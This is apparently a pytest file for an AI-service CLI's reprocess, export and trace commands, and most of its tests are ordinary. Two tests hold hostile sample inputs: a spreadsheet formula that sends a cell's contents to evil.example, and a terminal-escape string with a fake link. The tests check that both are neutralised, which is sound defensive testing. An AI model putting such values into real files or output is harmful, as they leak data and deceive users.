"""`aisvc reprocess` and `aisvc export` against a real event store and a real function
runtime on loopback (the torch-free echo function as the 'new model version')."""

from __future__ import annotations

import csv
import gzip
import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import echo_fn
import httpx
import pytest
from aiservice_functions.cloudevents_http import ReceivedEvent
from aiservice_functions.event_store import create_app as store_app
from aiservice_functions.event_store import open_store
from aiservice_functions.event_store.decision_records import LogSettings, to_decision
from aiservice_functions.event_store.records import now_us
from aiservice_functions.runtime.app import create_app
from aiservice_operator.cli.common import CONTROL
from aiservice_operator.cli.main import app
from typer.testing import CliRunner
from werkzeug.serving import make_server

from tests.support.runtime import config_for, serving, wait_ready

TOKEN = "decisions-token"
SINK = "/v1/namespaces/shop/aiservices/echo/decisions/{role}?data=true"


@pytest.fixture
def store_url(tmp_path: Path) -> Iterator[str]:
    store = open_store(f"sqlite:///{tmp_path}/store.db")
    server = make_server("127.0.0.1", 0, store_app(store, token=TOKEN), threaded=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join(5)
    store.close()


@pytest.fixture
def function_url(tmp_path: Path) -> Iterator[str]:
    model = tmp_path / "model.txt"
    model.write_text("echo-model\n")
    with serving(
        create_app(echo_fn.function, config_for(echo_fn.function, model_uri=model.as_uri()))
    ) as url:
        wait_ready(url)
        yield url


def log(store: str, role: str, event_id: str, data: object, **attrs: str) -> None:
    headers = {
        "ce-specversion": "1.0",
        "ce-id": event_id,
        "ce-source": attrs.pop("source", "/c"),
        "ce-type": attrs.pop("type", "com.example.request"),
        "content-type": "application/json",
        **{f"ce-{k}": v for k, v in attrs.items()},
    }
    response = httpx.post(store + SINK.format(role=role), headers=headers, json=data)
    assert response.status_code == 201, response.text


def invoke(*args: str) -> str:
    result = CliRunner().invoke(app, [*args, "--token", TOKEN])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_reprocess_sends_logged_inputs_to_the_target_and_reports_changes(
    store_url: str, function_url: str
) -> None:
    for n, text in enumerate(["same", "differs"]):
        log(store_url, "inputs", f"in-{n}", {"text": text})
        old = {"echo": text, "length": len(text), "batch": 1, "model": "echo-model@v2"}
        if text == "differs":
            old = {**old, "model": "older"}
        log(store_url, "replies", f"out-{n}", old, source="/aiservices/shop/echo/echo-v1",
            type="com.example.echoed", causationid=f"/c#in-{n}", modelversion="v1",
            aisvclatencyms="3")  # fmt: skip
    args = ["reprocess", "echo", "-n", "shop", "--model", "v2", "--url", store_url]
    report = json.loads(invoke(*args, "--target", function_url, "-o", "json"))
    assert (report["inputs"], report["compared"], report["errors"]) == (2, 2, 0), report
    assert report["changed"] == 1 and report["changedInputs"] == ["/c#in-1"]
    dry = json.loads(invoke(*args, "--dry-run"))
    assert dry == {"inputs": 2, "withData": 2}


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_writes_every_logged_input(store_url: str, tmp_path: Path, fmt: str) -> None:
    for n in range(3):
        log(store_url, "inputs", f"in-{n}", {"text": f"t{n}"})
    out = tmp_path / f"export.{fmt}"
    invoke("export", "echo", "-n", "shop", "--format", fmt, "--out", str(out), "--url", store_url)
    text = out.read_text()
    if fmt == "jsonl":
        rows = [json.loads(line) for line in text.splitlines()]
        assert [(r["id"], r["input"], r["outcome"]) for r in rows] == [
            (f"in-{n}", {"text": f"t{n}"}, "pending") for n in range(3)
        ]
    else:
        lines = text.splitlines()
        assert lines[0].startswith("id,source,type,time,input")
        assert len(lines) == 4 and '"{""text"": ""t0""}"' in lines[1]


def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text(store_url: str, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    log(store_url, "inputs", formula, "-2+3", source="+cmd", type="@sum")
    log(store_url, "inputs", "plain-id", {"text": "=not a cell start"})
    out = tmp_path / "export.csv"
    invoke("export", "echo", "-n", "shop", "--format", "csv", "-o", str(out), "--url", store_url)
    rows = list(csv.DictReader(out.open(newline="")))
    first = next(r for r in rows if r["id"] != "plain-id")
    assert (first["id"], first["source"], first["type"], first["input"]) == (
        "'" + formula,
        "'+cmd",
        "'@sum",
        "'-2+3",
    )
    plain = next(r for r in rows if r["id"] == "plain-id")
    assert plain["input"] == '{"text": "=not a cell start"}'  # JSON text starts with {


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_a_failed_export_leaves_the_output_file_as_it_was(
    store_url: str, tmp_path: Path, fmt: str
) -> None:
    log(store_url, "inputs", "in-0", {"text": "t0"})
    out = tmp_path / f"export.{fmt}"
    out.write_text("the previous export\n")
    args = ["export", "echo", "-n", "shop", "--format", fmt, "-o", str(out), "--url", store_url]
    refused = CliRunner().invoke(app, [*args, "--token", "wrong"])
    assert refused.exit_code == 1 and "403" in refused.stderr
    assert out.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("store.db")] == [out.name]


def test_export_errors_are_one_line(store_url: str, tmp_path: Path) -> None:
    with socket.socket() as closed:  # a loopback port nothing listens on
        closed.bind(("127.0.0.1", 0))
        nobody = f"http://127.0.0.1:{closed.getsockname()[1]}"
    cases = [
        (["--url", nobody, "-o", str(tmp_path / "x.jsonl")], "cannot read the export"),
        (["--url", store_url, "-o", str(tmp_path / "no" / "x.jsonl")], "does not exist"),
    ]
    for extra, why in cases:
        result = CliRunner().invoke(app, ["export", "echo", "-n", "shop", *extra])
        assert result.exit_code == 1, result.output
        assert isinstance(result.exception, SystemExit)  # no traceback
        assert [line for line in result.stderr.splitlines() if line] == [
            next(line for line in result.stderr.splitlines() if why in line)
        ]
        assert result.stderr.startswith("error: ")


@pytest.fixture(params=["content-length", "chunked"])
def gzip_model(request: pytest.FixtureRequest) -> Iterator[str]:
    """A model version behind a proxy that gzips its answers, framed by a length or chunked."""
    chunked = request.param == "chunked"

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            data = json.loads(self.rfile.read(int(self.headers["content-length"])))
            body = gzip.compress(json.dumps({"echo": data["text"], "model": "gz"}).encode())
            self.send_response(200)
            cause = f"{self.headers['ce-source']}#{self.headers['ce-id']}"
            headers = {
                "ce-specversion": "1.0",
                "ce-id": f"r-{self.headers['ce-id']}",
                "ce-source": "/aiservices/shop/echo/echo-v2",
                "ce-type": "com.example.echoed",
                "ce-causationid": cause,
                "ce-modelversion": "v2",
                "content-type": "application/json",
                "content-encoding": "gzip",
                **({"transfer-encoding": "chunked"} if chunked else {}),
                **({} if chunked else {"content-length": str(len(body))}),
            }
            for key, value in headers.items():
                self.send_header(key, value)
            self.end_headers()
            if chunked:
                body = f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n"
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def test_reprocess_files_a_gzipped_chunked_answer(store_url: str, gzip_model: str) -> None:
    log(store_url, "inputs", "in-0", {"text": "zipped"})
    log(store_url, "replies", "out-0", {"echo": "zipped", "model": "v1"},
        source="/aiservices/shop/echo/echo-v1", type="com.example.echoed",
        causationid="/c#in-0", modelversion="v1")  # fmt: skip
    args = ["reprocess", "echo", "-n", "shop", "--model", "v2", "--url", store_url]
    report = json.loads(invoke(*args, "--target", gzip_model, "-o", "json"))
    assert (report["compared"], report["errors"], report["changed"]) == (1, 0, 1), report


def test_trace_shows_logged_fields_without_terminal_escapes(store_url: str, tmp_path: Path) -> None:
    evil = "\x1b]0;retitled\x07\x1b[1A\u202e[link=http://evil.example/]x[/link]"
    doc = {"specversion": "1.0", "id": "r-1", "source": "/c", "type": "com.example" + evil,
           "datacontenttype": "application/json", "data": {"text": "t"}}  # fmt: skip
    posted = httpx.post(
        store_url + SINK.format(role="inputs"),
        headers={"content-type": "application/cloudevents+json"},
        content=json.dumps(doc),
    )
    # The store refuses control characters in attributes now (a CloudEvents String holds
    # none), but a record kept from before may hold them: the CLI must show it safely.
    assert posted.status_code == 400, posted.text
    legacy = open_store(f"sqlite:///{tmp_path}/store.db")
    try:
        event = ReceivedEvent({k: v for k, v in doc.items() if k != "data"}, doc["data"])
        settings = LogSettings(include_data=True)
        record = to_decision(
            event, namespace="shop", name="echo", role="input", settings=settings,
            received_at=now_us(),
        )  # fmt: skip
        assert record is not None
        legacy.decisions.add(record)
    finally:
        legacy.close()
    result = CliRunner().invoke(
        app, ["trace", "r-1", "--url", store_url, "--token", TOKEN], env={"COLUMNS": "1000"}
    )
    assert result.exit_code == 0, result.output
    assert not CONTROL.search(result.stdout.replace("\n", "")), result.stdout
    assert "com.example\\x1b]0;retitled\\x07" in result.stdout
    assert "[link=http://evil.example/]x[/link]" in result.stdout  # text, not a hyperlink
